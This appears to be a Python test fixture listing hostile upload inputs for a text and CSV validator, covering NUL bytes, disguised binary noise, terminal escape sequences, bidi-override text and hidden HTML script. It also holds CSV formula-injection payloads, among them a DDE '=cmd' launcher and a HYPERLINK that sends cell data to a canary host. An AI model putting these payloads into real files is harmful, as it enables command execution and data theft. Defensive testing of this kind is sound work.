"""T-56 and T-59: what calls itself text. Formulas and scripts stay words: they are never opened here."""

from functools import partial

from tests.hostile.corpus.hostile import SCRIPT, fixed, item

LINE = b"We met eight families.\n"


def noise() -> bytes:
    return bytes((n * 167 + n // 7) % 256 for n in range(4096))


refused = partial(item, expect="refused")
kept = partial(item, expect="accepted as is")

ITEMS = (
    refused("T-59-text-with-nul", "a.txt", fixed(LINE + b"\0" + LINE)),
    refused("T-59-text-with-nul-far-within", "a.txt", fixed(LINE * 40_000 + b"\0" + LINE)),
    refused("T-59-noise-named-txt", "a.txt", noise),
    refused("T-59-noise-named-csv", "a.csv", noise),
    refused("T-59-noise-behind-text", "a.txt", lambda: LINE * 3000 + noise()),
    refused("T-59-text-with-terminal-orders", "a.txt", fixed(b"\x1b]0;canary\x07\x1b[2J" + LINE)),
    refused("T-59-text-with-bells", "a.txt", fixed(LINE + b"\x07\x08\x7f" + LINE)),
    kept("T-59-text-half-characters", "a.txt", fixed(b"a \xed\xa0\x80 b")),
    kept("T-59-text-of-old-windows", "a.txt", fixed("Café, £5 and a “word”\r\n".encode("cp1252"))),
    kept("T-59-text-marked-utf-8", "a.txt", fixed(b"\xef\xbb\xbf" + LINE)),
    kept("T-59-text-in-utf-16", "a.txt", fixed("Ann wrote this.\r\n".encode("utf-16"))),
    refused("T-59-text-half-characters-in-utf-16", "a.txt", fixed(b"\xff\xfea\0\x00\xd8b\0")),
    refused("T-59-text-in-utf-32", "a.txt", fixed("Ann".encode("utf-32"))),
    kept("T-59-text-of-one-line-of-24-mb", "a.txt", lambda: b"words " * (4 << 20)),
    kept("T-59-text-without-an-end", "a.txt", fixed(b"one")),
    kept("T-59-text-of-nothing-but-spaces", "a.txt", fixed(b" \n\t " * 99)),
    kept("T-58-text-that-turns-around", "a.txt", fixed("if access \u202e)1==(\u2066 {".encode())),
    kept("T-56-csv-with-formulas", "a.csv", fixed(b"name,sum\r\nAnn,=SUM(A1:A9)\r\n")),
    kept(
        "T-56-csv-that-starts-a-program",
        "a.csv",
        fixed(b"name\r\n=cmd|'/c calc'!A1\r\n@SUM(1)\r\n"),
    ),
    kept(
        "T-56-csv-that-fetches",
        "a.csv",
        fixed(b'a,b\r\n"=HYPERLINK(""http://canary.example/?""&A2)",1\r\n'),
    ),
    kept("T-59-csv-of-16000-columns", "a.csv", fixed(b"a," * 16_384 + b"\r\n")),
    kept("T-59-csv-of-a-million-lines", "a.csv", fixed(b"a,b\r\n" * 1_000_000)),
    kept("T-59-csv-with-open-quotes", "a.csv", fixed(b'a,"b\r\nc,d\r\n')),
    kept("T-59-csv-named-txt", "a.txt", fixed(b"name,age\r\nAnn,9\r\n")),
    kept(
        "T-56-words-about-a-script",
        "a.txt",
        fixed(LINE + b"They wrote " + SCRIPT + b" on the board.\n"),
    ),
    refused(
        "T-56-page-behind-spaces-named-txt", "a.txt", fixed(b"\n \t" * 90 + b"<HTML>" + SCRIPT)
    ),
    refused(
        "T-56-page-in-utf-16-named-txt",
        "a.txt",
        fixed(("<html>" + SCRIPT.decode()).encode("utf-16")),
    ),
    refused(
        "T-56-page-with-a-mark-named-csv", "a.csv", fixed(b"\xef\xbb\xbf<script src=a></script>")
    ),
    kept("T-56-script-named-txt", "a.txt", fixed(b"alert('canary-script-ran')\n")),
    kept("T-56-powershell-named-txt", "a.txt", fixed(b"Start-Process calc.exe\r\n")),
)
